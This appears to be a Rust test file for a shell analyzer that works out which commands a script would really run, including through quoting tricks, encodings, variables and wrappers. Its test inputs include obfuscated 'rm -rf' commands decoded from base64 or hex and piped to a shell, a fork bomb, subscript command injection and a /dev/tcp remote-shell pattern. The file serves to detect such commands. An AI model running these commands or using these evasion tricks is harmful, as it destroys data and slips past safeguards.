//! What a text would run: the cases that others get wrong, the limits, and that nothing makes the reader fail.

use crate::support::programs;
use reflex_shell::{Reading, Surroundings, Value, read};

fn reading(text: &str) -> Reading {
    read(text, &Surroundings::new(programs()))
}

/// One line per command, its words in brackets; then one line per gap.
fn lines(text: &str) -> Vec<String> {
    let reading = reading(text);
    let words = |words: &[Value]| words.iter().map(|word| format!("[{}]", word.shown())).collect::<String>();
    let commands = reading.commands.iter().filter(|command| !command.words.is_empty());
    let gaps = reading.gaps.iter().map(|gap| format!("gap {:?} `{}`", gap.why, gap.origin.span.slice(text)));
    commands.map(|command| words(&command.words)).chain(gaps).collect()
}

#[track_caller]
fn check(text: &str, expected: &[&str]) {
    assert_eq!(lines(text), expected, "{text}");
}

/// Whether a command with exactly these words is found.
#[track_caller]
fn finds(text: &str, command: &str) {
    let found = lines(text);
    let shown = &found[..found.len().min(20)];
    assert!(
        found.iter().any(|line| line == command),
        "{command} is not in {shown:?} of {}",
        &text[..text.len().min(200)]
    );
}

#[test]
fn quotes_and_escapes_are_those_of_bash() {
    check(r#"r""m -r''f \x"#, &["[rm][-rf][x]"]);
    check(r"$'\x72\155' a\ b", &["[rm][a b]"]);
    check("r\\\nm x", &["[rm][x]"]);
    check("echo 'a\"b' \"c'd\" \"e\\\"f\\g\"", &["[echo][a\"b][c'd][e\"f\\g]"]);
    check("echo \"\" ''", &["[echo][][]"]);
    check("echo $\"hi\"", &["[echo][hi]"]);
    check("rm x\r\nls\r\n", &["[rm][x]", "[ls]"]);
}

#[test]
fn lists_pipes_and_groups_are_split() {
    check("a && b || c; d & e | f |& g", &["[a]", "[b]", "[c]", "[d]", "[e]", "[f]", "[g]"]);
    check("( a; b ) && { c; d; }", &["[a]", "[b]", "[c]", "[d]"]);
    check("if a; then b; elif c; then d; else e; fi", &["[a]", "[b]", "[c]", "[d]", "[e]"]);
    check("while a; do b; done; until c; do d; done", &["[a]", "[b]", "[c]", "[d]"]);
    check("case $x in a|b) c;; (d) e;& *) f;; esac", &["[c]", "[e]", "[f]"]);
    check("for x in a b; do c $x; done", &["[c][a]", "[c][b]"]);
    check("for ((i=0; i<3; i++)); do a; done", &["[a]"]);
    check("select x in a; do b $x; done", &["[b][a]"]);
    check("! a; time -p b; coproc c; coproc N { d; }", &["[a]", "[b]", "[c]", "[d]"]);
    check("a # b; c", &["[a]"]);
    check("echo if then done { }", &["[echo][if][then][done][{][}]"]);
}

#[test]
fn substitutions_run_what_stands_in_them() {
    check("echo $(a $(b))", &["[b]", "[a][$(b …)]", "[echo][$(a …)]"]);
    check("echo `a \\`b\\``", &["[b]", "[a][$(b …)]", "[echo][$(a …)]"]);
    check("echo \"x $(a) `b`\"", &["[a]", "[b]", "[echo][x $(a …) $(b …)]"]);
    check("echo ${x:=`a`}", &["[a]", "[echo][$(a …)]"]);
    check("echo $((1 + $(a)))", &["[a]", "[echo][[0-9]*]"]);
    check("cat <(a) >(b)", &["[a]", "[cat][$(mktemp)][$(mktemp)]", "[b]"]);
    check("[[ -n $(a) ]]", &["[a]"]);
    check("x[$(a)]=1", &["[a]"]);
    check("x=$(a) b", &["[a]", "[b]"]);
}

#[test]
fn known_output_becomes_words() {
    check("$(echo rm) x", &["[echo][rm]", "[rm][x]"]);
    check("`printf '%s%s' r m` x", &["[printf][%s%s][r][m]", "[rm][x]"]);
    check("echo cm0geA== | base64 -d | sh", &["[echo][cm0geA==]", "[base64][-d]", "[sh]", "[rm][x]"]);
    check("echo 726d2078 | xxd -r -p | bash", &["[echo][726d2078]", "[xxd][-r][-p]", "[bash]", "[rm][x]"]);
    check("echo 'x mr' | rev | sh", &["[echo][x mr]", "[rev]", "[sh]", "[rm][x]"]);
    check("printf -v y rm; $y a", &["[rm][a]"]);
}

#[test]
fn variables_are_followed() {
    check("X=rm; $X a", &["[rm][a]"]);
    check("X='rm -f'; $X a; \"$X\" a", &["[rm][-f][a]", "[rm -f][a]"]);
    check("A=r B=m; ${A}${B} x", &["[rm][x]"]);
    check("X=xrmx; Y=${X#x}; ${Y%x} a", &["[rm][a]"]);
    check("X=axbx; echo ${X//x/} ${X/x/y} ${X:1:2} ${X^^}", &["[echo][ab][aybx][xb][AXBX]"]);
    check("rm${IFS}-f${IFS}a", &["[rm][-f][a]"]);
    check("IFS=,; X=rm,-f,a; $X", &["[rm][-f][a]"]);
    check("a=(rm -f x); \"${a[@]}\"", &["[rm][-f][x]"]);
    check("set -- a b; rm \"$@\" $1", &["[rm][a][b][a]"]);
    check("echo ${X:-a} ${X+b}", &["[echo][a]"]);
    check("f() { rm $1; }; f a", &["[rm][a]"]);
    check("alias q='rm -f'; q a", &["[q][a]"]);
    check("alias q='rm -f'\nq a", &["[rm][-f][a]", "[q][a]"]);
    check("echo {a,b}{1..2} {x} a,b", &["[echo][a1][a2][b1][b2][{x}][a,b]"]);
    check("X=*; rm $X \"$X\"", &["[rm][*][*]"]);
    check("$UNSET a", &["[$UNSET][a]", "gap NotEvaluated `$UNSET`"]);
}

#[test]
fn what_differs_between_branches_is_not_known() {
    check("if a; then X=1; else X=2; fi; rm $X", &["[a]", "[rm][1]", "[rm][2]"]);
    check("X=1; rm $X; if a; then :; fi; rm $X", &["[rm][1]", "[a]", "[:]", "[rm][1]"]);
    check("while read f; do rm \"$f\"; done < list", &["[rm][$(cat …)]"]);
    check("find src -name '*.o' | while read f; do rm \"$f\"; done", &["[find][src][-name][*.o]", "[rm][src/**/*.o]"]);
}

#[test]
fn words_are_those_that_splitting_makes() {
    check("set -- ; rm \"$@\" \"$*\" \"\"", &["[rm][][]"]);
    check("IFS=/; X=a//b/; rm $X", &["[rm][a][][b]"]);
    check("IFS=' /'; X=' a / b'; rm $X", &["[rm][a][b]"]);
    check("if a; then IFS=/; fi; X=b/c; rm $X", &["[a]", "[rm][…]"]);
    check("a=(b 'c d'); rm \"${a[*]}\" ${a[1]} \"${a[@]:1}\"", &["[rm][b c d][c][d][c d]"]);
    check("a=(b c); a[1]=d; rm \"${a[@]}\" ${#a[@]}", &["[rm][b][d][2]"]);
    check("set a b c; rm \"${@:2}\" $# $4; shift 4; rm $1", &["[rm][b][c][3]", "[rm][a]"]);
    check("X=; rm ${X:-a} \"${X-a}\" ${X:+a} ${Y:-'b c' d}", &["[rm][a][][b c][d]"]);
    check("X=abc; rm ${X: -2} ${#X}; unset X; rm $X b", &["[rm][bc][3]", "[rm][b]"]);
    check("rm {3..1} {01..03} {1..7..3} {c..a}", &["[rm][3][2][1][01][02][03][1][4][7][c][b][a]"]);
    check("X=1 Y=$X; rm $Y", &["[rm][1]"]);
    check("rm $(printf '%s' 'a\\tb')", &["[printf][%s][a\\tb]", "[rm][a\\tb]"]);
}

#[test]
fn a_variable_is_seen_where_its_shell_sees_it() {
    check("X=1; f() { local X=2; rm $X; }; f; rm $X", &["[local]", "[rm][2]", "[rm][1]"]);
    check("X=1; f() ( declare X=2; ); f; rm $X", &["[declare]", "[rm][1]"]);
    check("X=1; f() { rm $X; }; X=2 f; rm $X", &["[rm][2]", "[rm][1]"]);
    check("X=1; sh -c 'rm $X'", &["[sh][-c][rm $X]", "[rm][$X]"]);
    finds("export X=1; sh -c 'rm $X'", "[rm][1]");
    finds("export X=1; unset X; X=2; sh -c 'rm $X'", "[rm][$X]");
    finds("export X=1 {a,b}; rm $X", "[rm][1]");
    check("X=rm; declare -n r=X; $r a", &["[declare][-n]", "[rm][a]"]);
    finds("X=1; env X=2 sh -c 'rm $X'", "[rm][2]");
    finds("set -- a; sh -c 'rm $# \"$1\"' _ b", "[rm][1][b]");
    finds("set -- a; sh -c 'rm \"$@\"'", "[rm]");
    finds("echo 'rm $1' | sh -s a", "[rm][a]");
    finds("eval \"rm '$X'\"", "[rm][$X]");
    finds("rm() { echo; }; command rm x", "[rm][x]");
    finds("( trap 'rm $X' EXIT; X=1 ); X=2", "[rm][1]");
}

#[test]
fn what_may_not_have_run_leaves_things_open() {
    check("X=1; a && X=2; rm $X", &["[a]", "[rm][2]", "[rm][1]"]);
    check("X=1 && Y=2; rm $X $Y", &["[rm][1][2]"]);
    check("X=1; while a; do rm $X; X=2; done", &["[a]", "[rm][1]", "[a]", "[rm][2]", "[rm][1]"]);
    check("X=1; for i in 2 1; do X=$i; break; done; rm $X", &["[break]", "[rm][2]"]);
    check("a && set -- b || set -- c; rm $1", &["[a]", "[rm][…]"]);
}

#[test]
fn known_input_is_taken_line_by_line() {
    check("read -r a b <<< 'x y z'; rm \"$a\" \"$b\"", &["[rm][x][y z]"]);
    check("IFS=/ read -r a b <<< x/y; rm $a $b", &["[rm][x][y]"]);
    check("read -ra a <<< 'x y'; rm \"${a[@]}\"", &["[rm][x][y]"]);
    check("mapfile -t a <<< $'x\\ny'; rm \"${a[@]}\"", &["[rm][x][y]"]);
    check("while read -r a; do rm \"$a\"; done <<E\nx\ny z\nE", &["[rm][x]", "[rm][y z]"]);
    finds("echo a b c | xargs -n 2 rm", "[rm][c]");
    finds("printf '%s\\n' 'a b' c | xargs -I% rm % x%", "[rm][a b][xa b]");
    finds("printf 'a b\\0c' | xargs -0 rm", "[rm][a b][c]");
    finds("printf '%s\\n' 'a b' c d | xargs -L 2 rm", "[rm][a][b][c]");
    finds("echo \"'a b' c\" | xargs rm", "[rm][a b][c]");
    finds("echo ls > log; echo rm x | tee log | sh", "[rm][x]");
    finds("echo ls > x; echo rm x | grep x | sh", "[rm][x]");
    finds("echo x | xargs -a list rm", "[rm][$(cat …)]");
}

#[test]
fn heredocs_are_data_unless_a_shell_reads_them() {
    check("cat <<E\nrm x\nE\nls", &["[cat]", "[ls]"]);
    check("cat <<'E' > f\nrm $(a)\nE", &["[cat]"]);
    check("cat <<E\n$(a)\nE", &["[a]", "[cat]"]);
    check("cat <<-E\n\trm x\n\tE\nls", &["[cat]", "[ls]"]);
    check("sh <<E\nrm x\nE", &["[sh]", "[rm][x]"]);
    check("bash -s <<< 'rm x'", &["[bash][-s]", "[rm][x]"]);
    check("git commit -m \"$(cat <<'E'\nrm -rf /\nE\n)\"", &["[cat]", "[git][commit][-m][rm -rf /]"]);
    check("cat <<A <<B\na\nA\nb\nB\nls", &["[cat]", "[ls]"]);
}

#[test]
fn wrappers_lead_to_what_they_run() {
    finds("sudo -u root env A=1 nice -n 5 timeout 5 nohup rm x", "[rm][x]");
    finds("find . -exec sh -c 'rm \"$1\"' _ {} \\;", "[rm][./**]");
    finds("echo a b | xargs -I{} rm x/{}", "[rm][x/a b]");
    finds("eval \"eval 'rm x'\"", "[rm][x]");
    finds("busybox rm x", "[rm][x]");
    finds("ssh -p 22 host rm x", "[rm][x]");
    finds("docker exec -it web sh -c 'rm x'", "[rm][x]");
    finds("watch -n 1 rm x", "[rm][x]");
    finds("git rebase -x 'rm x' main", "[rm][x]");
    finds("env -S 'rm x'", "[rm][x]");
}

#[test]
fn text_that_is_not_finished_is_a_gap() {
    check("echo 'x", &["[echo][x]", "gap Unfinished `'x`"]);
    check("a; ) b", &["[a]", "[b]", "gap Unparsed `)`"]);
    finds("if a; then b", "[b]");
    finds("echo \"$(a", "[a]");
}

#[test]
fn deep_nesting_is_a_gap_and_what_follows_is_still_found() {
    for (before, open, close) in [
        ("echo ", "$(", ")"),
        ("", "( ", ")"),
        ("", "{ ", ";}"),
        ("echo ", "\"$(", ")\""),
        ("echo ", "${x:-", "}"),
        ("echo ", "$((", "))"),
    ] {
        for depth in [50, 1_000, 20_000] {
            finds(&format!("{before}{}a{}; rm x", open.repeat(depth), close.repeat(depth)), "[rm][x]");
        }
    }
    for (open, close) in [("if a; then ", "; fi"), ("while a; do ", "; done"), ("case a in a) ", " ;; esac")] {
        finds(&format!("{}a{}; rm x", open.repeat(1_000), close.repeat(1_000)), "[rm][x]");
    }
}

#[test]
fn long_texts_are_read_to_the_end() {
    finds(&format!("{}rm x", "true && ".repeat(4_000)), "[rm][x]");
    finds(&format!("echo {}; rm x", "a".repeat(200_000)), "[rm][x]");
    finds(&format!("echo '{}'; rm x", "a b\n".repeat(50_000)), "[rm][x]");
    finds(&format!("cat <<E\n{}E\nrm x", "a $b `c`\n".repeat(2_000)), "[rm][x]");
    finds(&format!("{}\nrm x", "x=1 ".repeat(10_000)), "[rm][x]");
}

#[test]
fn more_commands_than_are_read_are_a_gap() {
    let is_cut = |text: &str| lines(text).iter().any(|line| line.starts_with("gap Limit"));
    assert!(is_cut(&format!("{}rm x", "true; ".repeat(20_000))));
    assert!(is_cut(&format!("echo a b c d{}", " | xargs -n1 echo a b c d".repeat(6))));
    assert!(is_cut(&format!("a{} | sh", " | b".repeat(1_000))));
}

#[test]
fn a_function_that_multiplies_itself_is_noticed() {
    let multiplies = |text: &str| !reading(text).multiplying.is_empty();
    assert!(multiplies(":(){ :|:& };:"));
    assert!(multiplies("b() { b | b & }; b"));
    assert!(multiplies("b() { b & b & }; b"));
    assert!(!multiplies("f() { g | h; }; f"));
    assert!(!multiplies("f() { f; }; f"));
}

#[test]
fn what_branches_leave_open_is_listed_in_every_way() {
    finds("if c; then x=rm; else x=ls; fi; $x -rf ~", "[rm][-rf][~]");
    finds("if c; then x=rm; else x=ls; fi; $x -rf ~", "[ls][-rf][~]");
    finds("if c; then x=rm; fi; $x -rf ~", "[rm][-rf][~]");
    finds("x=a; while c; do rm $x; x=$y; y=b; done", "[rm][…]");
    check("if c; then x=1; else x=2; fi; rm $x-$x", &["[c]", "[rm][1-1]", "[rm][2-2]"]);
    check(
        "case $a in x) b=rm;; *) b=ls;; esac; echo $b | sh",
        &["[echo][rm]", "[sh]", "[rm]", "[echo][ls]", "[sh]", "[ls]"],
    );
    finds("[ x = y ] && rm() { :; }; rm -rf ~", "[rm][-rf][~]");
    finds("c && rm() { :; }; rm -rf ~", "[rm][-rf][~]");
    finds("$(if a; then echo rm; else echo ls; fi) -rf x", "gap NotEvaluated `rm`");
}

#[test]
fn known_conditions_decide_about_the_state_and_hide_nothing() {
    check("if true; then x=1; else x=2; rm y; fi; rm $x", &["[true]", "[rm][y]", "[rm][1]"]);
    finds("false && rm x", "[rm][x]");
    finds("set -e; false; rm x", "[rm][x]");
    finds("true || rm x", "[rm][x]");
    finds("i=0; while [ $i -lt 3 ]; do i=$((i+1)); rm f$i; done", "[rm][f3]");
    check("for ((i=0; i<2; i++)); do rm $i; done; ls $i", &["[rm][0]", "[rm][1]", "[ls][2]"]);
    check("case ab in a@(b|c)) x=1;; *) x=2;; esac; rm $x", &["[rm][1]"]);
    check("[[ abc == a* ]] && x=1 || x=2; rm $x", &["[rm][1]"]);
}

#[test]
fn what_is_never_reached_does_not_run() {
    check("f() { return; rm x; }; f; rm y", &["[return]", "[rm][y]"]);
    check("(exit; rm x); rm y; exit; rm z", &["[exit]", "[rm][y]", "[exit]"]);
    check("while true; do break; rm x; done; rm y", &["[true]", "[break]", "[rm][y]"]);
    finds("a || exit; rm x", "[rm][x]");
    finds("a && exit; rm x", "[rm][x]");
    finds("return; rm x", "[rm][x]");
    finds("exit a; rm x", "[rm][x]");
    finds("exec nothing; rm x", "[rm][x]");
    finds("f() { exit; }; (f); rm x", "[rm][x]");
    finds("trap 'rm x' EXIT; exit", "[rm][x]");
    finds("if a; then exit; fi; rm x", "[rm][x]");
    finds("cd X || exit; rm -rf *", "[rm][-rf][*]");
}

#[test]
fn descriptors_lead_to_what_is_read() {
    finds("exec 3<<<'rm -rf x'; bash <&3", "[rm][-rf][x]");
    finds("exec {fd}<<<'rm x'; sh <&$fd", "[rm][x]");
    check("{ read a; read b; } <<< $'x\ny'; rm $a $b", &["[rm][x][y]"]);
    check("read -u 3 a 3<<< 'x'; rm $a", &["[rm][x]"]);
    finds("echo 'rm x' > >(sh)", "[rm][x]");
    finds("echo 'rm x' | tee >(bash) >/dev/null", "[rm][x]");
    finds("{ echo rm x >&3; } 3>&1 | sh", "[rm][x]");
    finds("echo rm x 2>/dev/null | sh", "[rm][x]");
    finds("(echo rm x; date) | sh", "[rm][x]");
    check("rm $(echo a >&2) b", &["[echo][a]", "[rm][b]"]);
    let reading = reading("exec 5<>/dev/tcp/h/p; sh <&5");
    assert!(reading.commands.iter().any(|command| !command.unread.is_empty()));
}

#[test]
fn files_that_the_text_writes_are_known() {
    finds("echo 'rm x' > f; sh f", "[rm][x]");
    finds("cat <<E > f.sh\nrm $X y\nE\nbash < ./f.sh", "[rm][$X][y]");
    finds("echo a > f; echo rm x >> f; . ./f", "[rm][x]");
    finds("echo rm x | tee f; sh f", "[rm][x]");
    finds("echo rm > f; $(<f) x", "[rm][x]");
    finds("source <(echo rm x)", "[rm][x]");
}

#[test]
fn an_alias_counts_from_the_next_line_and_perhaps_not_at_all() {
    check("alias rm=echo; rm -rf ~", &["[rm][-rf][~]"]);
    check("alias rm=echo\nrm -rf ~", &["[echo][-rf][~]", "[rm][-rf][~]"]);
    check("alias x='rm a'\n\\x b", &["[x][b]"]);
    finds("alias x='rm a'\nf() { x b; }\nunalias x\nf", "[rm][a][b]");
    finds("eval \"alias x='rm a'\"\neval 'x b'", "[rm][a][b]");
}

#[test]
fn subscripts_run_what_stands_in_them() {
    for text in [
        "printf -v 'x[$(rm y)]' a",
        "test -v 'x[$(rm y)]'",
        "declare 'x[$(rm y)]=1'",
        "unset 'x[$(rm y)]'",
        "read 'x[$(rm y)]'",
        "[[ -v x[$(rm y)] ]]",
        "let 'x[$(rm y)]=1'",
        "(( x[$(rm y)] ))",
        "echo ${x[$(rm y)]}",
        "a='x[$(rm y)]'; (( a ))",
        "a='x[$(rm y)]'; [[ $a -eq 1 ]]",
        "a='x[$(rm y)]'; echo $((a))",
        "a='$(rm y)'; echo ${a@P}",
        "case a in $(rm y)) ;; esac",
        "echo ${a:?$(rm y)}",
    ] {
        finds(text, "[rm][y]");
    }
}

#[test]
fn the_folder_is_followed() {
    let folders = |text: &str| {
        let shown = |command: &reflex_shell::Command| command.folder.as_ref().map_or("?".into(), Value::shown);
        reading(text).commands.iter().map(shown).collect::<Vec<_>>()
    };
    assert_eq!(folders("cd a; x; cd ..; x; cd /b/c; x; cd ../d; x"), ["a", "", "/b/c", "/b/c/../d"]);
    assert_eq!(folders("cd a && cd - && x"), [""]);
    assert_eq!(folders("pushd b; x; popd; x"), ["b", ""]);
    assert_eq!(folders("(cd z; x); x; echo | cd w; x"), ["z", "", "", ""]);
    assert_eq!(folders("CDPATH=/; cd etc; x; cd ./a; x"), ["?", "?"]);
    assert_eq!(folders("f() { cd a; }; f; x"), ["a"]);
    assert_eq!(folders("env -C /a x")[1], "/a");
    assert_eq!(folders("sudo -D /a x")[1], "/a");
}

#[test]
fn arithmetic_is_worked_out() {
    check("n=3; rm $((n+1)) $((n*n)) $((n > 2 ? 1 : 0)) $((0x10)) $((n++)) $n", &["[rm][4][9][1][16][3][4]"]);
    check("declare -i n=1+2; rm $n", &["[declare][-i]", "[rm][3]"]);
    check("a=(x y z); rm ${a[-1]} ${a[1+1]}", &["[rm][z][z]"]);
    check("n=1; rm f$((n/0))", &["[rm][f[0-9]*]"]);
}

#[test]
fn patterns_are_matched_against_known_texts() {
    check("X=abcabc; rm ${X#*b} ${X##*b} ${X%b*} ${X%%b*}", &["[rm][cabc][c][abca][a]"]);
    check("X=a1b2; rm ${X//[0-9]/-} ${X/#a/Z} ${X/%2/Z} ${X^}", &["[rm][a-b-][Z1b2][a1bZ][A1b2]"]);
    finds("/???/b??h -c 'rm x'", "[rm][x]");
    finds("/bin/r? -rf x", "[rm][-rf][x]");
    check("rm $a{1,2}", &["[rm][$a1][$a2]"]);
    check("rm @(a|b) !(x)", &["[rm][*][*]"]);
}

#[test]
fn functions_may_run_themselves_and_each_other() {
    check(
        "f() { rm $1; shift; [ $# -gt 0 ] && f \"$@\"; }; f a b",
        &["[rm][a]", "[[][1][-gt][0][]]", "[rm][b]", "[[][0][-gt][0][]]", "[rm]", "[[][0][-gt][0][]]"],
    );
    let doubling: String = (0..24).map(|level| format!("f{level}() {{ f{}; f{0}; }}; ", level + 1)).collect();
    finds(&format!("{doubling} f24() {{ rm x; }}; f0; rm y"), "[rm][y]");
}

#[test]
fn names_may_stand_for_other_names() {
    finds("declare -n r=x; r=rm; $x a", "[rm][a]");
    finds("f() { local -n r=$1; r=rm; }; f y; $y a", "[rm][a]");
    finds("x=rm; n=x; ${!n} a", "[rm][a]");
    finds("declare -A m=([k]=rm); ${m[k]} a", "[rm][a]");
}

#[test]
fn constructs_of_zsh_are_read() {
    finds("for x (a b) rm $x", "[rm][b]");
    finds("repeat 3 rm x", "[rm][x]");
    finds("noglob rm *", "[rm][*]");
    finds("nocorrect rm x", "[rm][x]");
    finds("source =(echo rm x)", "[rm][x]");
    finds("${(z)cmd} x", "gap NotEvaluated `${(z)cmd}`");
}

/// A small generator of its own: the same texts on every machine.
struct Chance(u64);

impl Chance {
    fn next(&mut self, below: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % below.max(1) as u64) as usize
    }
}

const SCRAPS: [&str; 64] = [
    "rm",
    " -rf",
    " ~",
    " x",
    "'",
    "\"",
    "`",
    "$(",
    ")",
    "${",
    "}",
    "{",
    "(",
    ";",
    "&&",
    "||",
    "|",
    "&",
    "\n",
    "<<E\n",
    "E\n",
    "<<<",
    "<(",
    ">",
    ">>",
    "2>&1",
    "<",
    "*",
    "?",
    "[",
    "]",
    "[[ ",
    " ]]",
    "((",
    "))",
    "$((",
    "if ",
    "then ",
    "fi",
    "for x in ",
    "do ",
    "done",
    "case x in ",
    "esac",
    ";;",
    "while ",
    "f() ",
    "function f ",
    "eval ",
    "sh -c ",
    "$'",
    "\\",
    "\\x72",
    "$x",
    "x=",
    "x+=(",
    "=",
    "~",
    "#",
    "!",
    "{a,b}",
    "{1..9}",
    "\r\n",
    "ü",
];

#[test]
fn no_text_makes_the_reader_fail() {
    let mut chance = Chance(0x9e37_79b9_7f4a_7c15);
    for _ in 0..30_000 {
        let length = 1 + chance.next(40);
        let text: String = (0..length).map(|_| SCRAPS[chance.next(SCRAPS.len())]).collect();
        let reading = reading(&text);
        for command in &reading.commands {
            let span = command.origin.span;
            assert!(span.start <= span.end && span.end as usize <= text.len(), "{text:?}");
        }
        for gap in &reading.gaps {
            assert!(gap.origin.span.end as usize <= text.len(), "{text:?}");
        }
    }
}

#[test]
fn no_bytes_make_the_reader_fail() {
    let mut chance = Chance(0xdead_beef_cafe_f00d);
    for _ in 0..10_000 {
        let bytes: Vec<u8> = (0..chance.next(80)).map(|_| chance.next(256) as u8).collect();
        let _ = reading(&String::from_utf8_lossy(&bytes));
    }
}
